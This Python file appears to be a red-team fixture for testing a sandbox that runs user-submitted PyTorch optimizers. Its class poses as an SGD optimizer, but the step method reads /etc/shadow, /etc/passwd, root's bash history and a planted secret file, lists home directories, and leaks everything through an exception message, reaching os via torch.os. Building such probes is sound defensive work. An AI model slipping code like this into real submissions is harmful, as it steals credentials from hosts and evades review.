"""Red team (secret theft): reads a secret file on the host and the user's home."""
import torch

ENGINE_PID = 0  # filled in by tests/test_redteam.py
PORT = 0
MARKER = "/tmp/synth-redteam-marker"
SECRET_FILE = "/tmp/synth-redteam-secret"


class Submission(torch.optim.SGD):
    def __init__(self, params):
        super().__init__(params, lr=0.05)

    @torch.no_grad()
    def step(self, closure=None):
        os = torch.os
        found = []
        for path in (SECRET_FILE, "/root/.bash_history", "/etc/shadow", "/etc/passwd", "/etc/hostname"):
            try:
                found.append(open(path).read())
            except OSError:
                pass
        for home in ("/root", "/home", "/work"):
            try:
                found.append(repr(os.listdir(home)))
            except OSError:
                pass
        raise RuntimeError("found=" + " ".join(found))
        return super().step()
